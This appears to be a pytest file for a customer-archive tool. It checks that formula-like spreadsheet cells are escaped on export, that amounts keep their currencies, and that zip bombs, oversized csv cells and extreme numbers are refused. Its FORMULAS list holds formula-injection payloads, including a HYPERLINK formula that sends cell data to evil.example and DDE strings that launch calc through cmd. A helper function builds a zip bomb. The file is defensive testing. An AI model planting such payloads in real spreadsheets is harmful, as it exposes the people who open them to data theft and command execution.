"""Spreadsheet cells are data (issue 13 point 5, issue 14 point 5) and hostile sheets (point 6).

Attacks: text that a spreadsheet program would run as a formula (=, +, -, @, tab, CR) in every
xlsx and csv the tool writes — export, the electronic catalogue, reports — read back with
openpyxl as text, and imported back as a no-op; amounts exported as numbers beside their
currency; and sheets built to exhaust the reader: a zip bomb, a csv cell over 128 KiB.
"""

from __future__ import annotations

import csv
import io
import zipfile
from pathlib import Path

import openpyxl
import pytest

from conftest import SEES_ALL, act_as, git, init_repo
from dossier.sheets import sheet_cells
from dossier.archive.loader import load_file

FORMULAS = [
    '=HYPERLINK("http://evil.example/?q="&A1,"点击查看")',
    "+46 8 123456",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "'=1+1",  # already looks escaped: must come back with its apostrophe
]
HEADER = ["客户编号", "客户名称", "联系人", "联系人职务", "电话", "地址", "客户等级", "业务员", "信用额度", "外销", "客户性质",
          "客户类别"]
MORE = ["一般公司", "一般"]  # 客户性质, 客户类别


@pytest.fixture
def repo(base_archive):
    init_repo(base_archive, "wang.wei@example.cn")
    return base_archive


def write_csv(path: Path, header: list, rows: list[list]) -> Path:
    buffer = io.StringIO()
    csv.writer(buffer).writerows([header, *rows])
    path.write_bytes(buffer.getvalue().encode("utf-8-sig"))
    return path


def hostile_rows() -> list[list]:
    """One new customer per formula: in its name, its contact's title and its address."""
    return [[None, f"{text}客户{index}", "刘红", text, "0351-4040404", f"{text} 太原", "C", "王伟", 1000 + index, "否",
             *MORE] for index, text in enumerate(FORMULAS)]


@pytest.mark.parametrize("text,escaped", [("=1+1", "'=1+1"), ("+1 800", "'+1 800"), ("-x", "'-x"), ("@a", "'@a"),
                                          ("\tx", "'\tx"), ("\rx", "'\rx"), ("'=x", "''=x"), ("''", "'''"),
                                          ("-12.50", "-12.50"), ("+3", "+3"), ("'abc", "'abc"), ("a=b", "a=b"),
                                          ("", "")])
def test_escape_is_the_owasp_apostrophe_and_reverses_exactly(text, escaped):
    assert sheet_cells.escape(text) == escaped
    assert sheet_cells.unescape(escaped) == text


def test_export_writes_formula_like_text_as_text_and_imports_back_unchanged(repo, run, tmp_path, monkeypatch):
    """A hostile csv (formulas unescaped, as any program writes them) imports as text; the tool's
    own xlsx and csv hold them as text (openpyxl: type 's', Excel's quote prefix; csv: the
    apostrophe), and importing either back changes nothing."""
    sheet = write_csv(tmp_path / "hostile.csv", HEADER, hostile_rows())
    result = run("--archive", repo, "import", "customers", sheet, "--lang", "en")
    assert result.code == 0, result.out + result.err
    # as stored: an apostrophe before a formula is the escape, a carriage return a line feed
    names = {f"{text.removeprefix(chr(39)).replace(chr(13), chr(10))}客户{index}" for index, text in enumerate(FORMULAS)}
    stored = {load_file(path, path.name).data["name"] for path in (repo / "customers").glob("C*.yaml")}
    assert names <= stored and {"\t=1+1客户4", "\n=1+1客户5", "=1+1客户6"} <= stored
    act_as(monkeypatch, SEES_ALL)
    out = tmp_path / "out"
    for fmt in ("xlsx", "csv"):
        assert run("--archive", repo, "export", "customers", "--format", fmt, "--output", out).code == 0
    ws = openpyxl.load_workbook(out / "客户管理表.xlsx").active
    cells = [cell for row in ws.iter_rows() for cell in row if isinstance(cell.value, str)]
    risky = [cell for cell in cells if sheet_cells.is_formula_like(cell.value)]
    assert len(risky) >= 3 * (len(FORMULAS) - 1)  # names, titles and addresses; a line feed first is not a formula
    assert all(cell.data_type == "s" and cell.quotePrefix for cell in risky), [(c.coordinate, c.data_type) for c in risky]
    assert names <= {cell.value for cell in cells}
    raw = (out / "客户管理表.csv").read_text(encoding="utf-8-sig")
    rows = list(csv.reader(io.StringIO(raw, newline="")))
    written = {cell for row in rows for cell in row}
    assert {sheet_cells.escape(name) for name in names} <= written
    assert len([name for name in names if sheet_cells.escape(name) != name]) == len(FORMULAS) - 1  # all but \n
    assert not [cell for cell in written if sheet_cells.is_formula_like(cell)]
    before = git(repo, "rev-parse", "HEAD")
    for fmt in ("xlsx", "csv"):
        again = run("--archive", repo, "import", "customers", out / f"客户管理表.{fmt}", "--lang", "en")
        assert again.code == 0 and " 0 new, 0 changed" in again.out, again.out + again.err
    assert git(repo, "rev-parse", "HEAD") == before and not git(repo, "status", "--porcelain")


def test_the_catalogue_and_reports_write_formula_titles_and_names_as_text(repo, run, tmp_path, monkeypatch):
    item = repo / "records/3/2025/3-2025-S02-0001.yaml"
    item.write_text(item.read_text("utf-8").replace("title: 关于核定山西晋能集团签单信用额度的审批",
                                                    "title: '=HYPERLINK(\"http://x\")关于核定信用额度的审批'", 1), "utf-8")
    card = repo / "customers/C0001.yaml"
    card.write_text(card.read_text("utf-8").replace("name: 山西晋能集团有限公司", "name: '@SUM(1)山西晋能'", 1), "utf-8")
    act_as(monkeypatch, SEES_ALL)
    out = tmp_path / "out"
    assert run("--archive", repo, "render", "catalogue", "--output", out).code == 0
    written = {path.suffix: path for path in out.iterdir()}
    book = openpyxl.load_workbook(written[".xlsx"])
    found = [c for ws in book.worksheets for row in ws.iter_rows() for c in row
             if isinstance(c.value, str) and c.value.startswith(("=HYPERLINK", "@SUM"))]
    assert found and all(c.data_type == "s" and c.quotePrefix for c in found)
    assert "'=HYPERLINK" in written[".csv"].read_text("utf-8-sig")
    folder = tmp_path / "report"
    report = run("--archive", repo, "report", "monthly", "--period", "2025-06", "--format", "xlsx", "--output", folder)
    assert report.code == 0, report.out + report.err
    book = openpyxl.load_workbook(next(folder.glob("*.xlsx")))
    found = [c for ws in book.worksheets for row in ws.iter_rows() for c in row
             if isinstance(c.value, str) and "@SUM(1)" in c.value]
    assert found and all(c.data_type == "s" for c in found)
    assert all(c.quotePrefix for c in found if c.value.startswith("@"))


# --- amounts are numbers, their currency beside them (issue 14 point 5) -----------------------


def test_amounts_of_every_currency_export_as_numbers_a_sum_adds_up(repo, run, tmp_path, monkeypatch):
    rows = [[None, "Nordic Foods AB", "Erik", None, "+46 8 123456", "Stockholm", "D", "陈晓雨", "5000 USD", "否", *MORE],
            [None, "Pâtisserie Lyon", "Anne", None, "+33 4 123456", "Lyon", "D", "陈晓雨", "1200.50 EUR", "否", *MORE]]
    act_as(monkeypatch, SEES_ALL)  # who may create cards of another manager's customers, and export every card
    assert run("--archive", repo, "import", "customers", write_csv(tmp_path / "c.csv", HEADER, rows)).code == 0
    assert run("--archive", repo, "export", "customers", "--output", tmp_path).code == 0
    ws = openpyxl.load_workbook(tmp_path / "客户管理表.xlsx").active
    header = [c.value for c in ws[2]]
    limit, currency = header.index("信用额度"), header.index("信用额度币种")
    assert currency == limit + 1
    values = {row[1].value: (row[limit].value, row[currency].value) for row in ws.iter_rows(min_row=3)}
    assert values["Nordic Foods AB"] == (5000, "USD") and values["Pâtisserie Lyon"] == (1200.5, "EUR")
    assert values["山西晋能集团有限公司"] == (200000, "CNY")
    assert all(isinstance(amount, (int, float)) for amount, _ in values.values() if amount is not None)


def test_import_reads_the_new_layout_and_the_old_one(repo, run, tmp_path):
    old = [[None, "老格式公司", "刘红", None, "0351-1", "太原", "C", "王伟", "120.00 USD", "否", *MORE]]
    new_header = [*HEADER[:9], "信用额度币种", *HEADER[9:]]
    new = [[None, "新格式公司", "刘红", None, "0351-2", "太原", "C", "王伟", 300, "eur", "否", *MORE],
           [None, "人民币公司", "刘红", None, "0351-3", "太原", "C", "王伟", "1,000", "人民币", "否", *MORE],
           [None, "默认币种公司", "刘红", None, "0351-4", "太原", "C", "王伟", 50, None, "否", *MORE]]
    assert run("--archive", repo, "import", "customers", write_csv(tmp_path / "o.csv", HEADER, old)).code == 0
    result = run("--archive", repo, "import", "customers", write_csv(tmp_path / "n.csv", new_header, new))
    assert result.code == 0, result.out + result.err
    limits = {}
    for path in (repo / "customers").glob("C*.yaml"):
        text = path.read_text("utf-8")
        for name in ("老格式公司", "新格式公司", "人民币公司", "默认币种公司"):
            if f"name: {name}" in text:
                limits[name] = next(line.split(": ", 1)[1] for line in text.splitlines() if line.startswith("credit_limit"))
    assert limits == {"老格式公司": "120.00 USD", "新格式公司": "300.00 EUR", "人民币公司": "1000.00 CNY",
                      "默认币种公司": "50.00 CNY"}


def test_a_currency_cell_contradicting_its_amount_or_not_a_currency_is_named(repo, run, tmp_path):
    header = [*HEADER[:9], "信用额度币种", *HEADER[9:]]
    rows = [[None, "甲公司", "刘红", None, "0351-1", "太原", "C", "王伟", "120.00 USD", "EUR", "否", *MORE],
            [None, "乙公司", "刘红", None, "0351-2", "太原", "C", "王伟", 100, "dollars", "否", *MORE]]
    result = run("--archive", repo, "import", "customers", write_csv(tmp_path / "x.csv", header, rows), "--lang", "en")
    assert result.code == 1
    assert "x!J2: cell: 信用额度币种: the amount 120.00 USD names another currency than this cell's EUR" in result.out
    assert "x!J3: cell: 信用额度币种: 'dollars' is not a currency" in result.out


# --- hostile sizes (issue 13 point 6) -----------------------------------------------------------


def zip_bomb(path: Path, unpacked_mib: int) -> Path:
    """A workbook whose sheet part is `unpacked_mib` MiB of spaces: a few hundred KiB on disk."""
    good = io.BytesIO()
    workbook = openpyxl.Workbook()
    workbook.active.title = "客户管理表"
    workbook.active.append(HEADER)
    workbook.save(good)
    with zipfile.ZipFile(good) as source, zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as bomb:
        for part in source.infolist():
            data = source.read(part)
            if part.filename == "xl/worksheets/sheet1.xml":
                with bomb.open(part.filename, "w", force_zip64=True) as stream:
                    stream.write(data[:-len(b"</worksheet>")])
                    chunk = b" " * 2**20
                    for _ in range(unpacked_mib):
                        stream.write(chunk)
                    stream.write(b"</worksheet>")
            else:
                bomb.writestr(part, data)
    return path


def test_a_zip_bomb_is_refused_before_it_is_unpacked(repo, run, tmp_path):
    bomb = zip_bomb(tmp_path / "bomb.xlsx", 400)
    assert bomb.stat().st_size < 1024 * 1024  # about 400 KiB that would expand to 400 MiB
    import tracemalloc

    tracemalloc.start()
    result = run("--archive", repo, "import", "customers", bomb, "--lang", "en")
    peak = tracemalloc.get_traced_memory()[1]
    tracemalloc.stop()
    assert result.code == 1, result.out + result.err
    assert "bomb.xlsx: sheet: bomb.xlsx would unpack to 400.0 MiB" in result.out + result.err
    assert "internal error" not in result.out + result.err
    assert peak < 64 * 2**20  # nothing was inflated


def test_a_csv_cell_over_128_kib_is_named_by_its_row(repo, run, tmp_path):
    rows = [[None, "甲公司", "刘红", None, "0351-1", "太原", "C", "王伟", 1, "否", *MORE],
            [None, "乙公司", "刘红", None, "0351-2", "x" * (200 * 1024), "C", "王伟", 1, "否", *MORE]]
    result = run("--archive", repo, "import", "customers", write_csv(tmp_path / "big.csv", HEADER, rows),
                 "--lang", "en")
    assert result.code == 1, result.out + result.err
    assert "big!3:3: sheet: this line cannot be read as csv (field larger than field limit (131072))" in result.out + \
        result.err
    assert "internal error" not in result.out + result.err


@pytest.mark.parametrize("cell,column,said", [
    ("9" * 5000, "E", "金额: '" + "9" * 37 + "…' is not below 1,000,000,000,000,000"),
    ("-1e999999999", "D", "数量: '-1e999999999' lies beyond ±9007199254740991"),
    ("NaN", "D", "数量: 'NaN' is not a number"),
    ("inf", "D", "数量: 'inf' is not a number"),
])
def test_hostile_numbers_in_a_sheet_are_named_by_their_cell(repo, run, tmp_path, cell, column, said):
    header = ["客户编号", "日期", "项目", "数量", "金额"]
    row = ["C0001", "2025-03-01", "餐饮", 2, "100.00"]
    row["DE".index(column) + 3] = cell
    sheet = write_csv(tmp_path / "sales.csv", header, [row])
    result = run("--archive", repo, "import", "records", sheet, "--dry-run", "--lang", "en")
    assert result.code == 1, result.out + result.err
    assert f"sales!{column}2: cell: {said}" in result.out, result.out
    assert "internal error" not in result.out + result.err


def test_the_customer_list_as_csv_escapes_formula_like_names(repo, run, monkeypatch):
    card = repo / "customers/C0001.yaml"
    card.write_text(card.read_text("utf-8").replace("name: 山西晋能集团有限公司", "name: '=HYPERLINK(\"http://x\")晋能'", 1),
                    "utf-8")
    act_as(monkeypatch, SEES_ALL)
    result = run("--archive", repo, "customers", "--format", "csv")
    assert result.code == 0
    rows = list(csv.reader(io.StringIO(result.out.lstrip("\ufeff"), newline="")))
    assert ["C0001", "'=HYPERLINK(\"http://x\")晋能"] == rows[1][:2]
    assert not [cell for row in rows for cell in row if sheet_cells.is_formula_like(cell)]
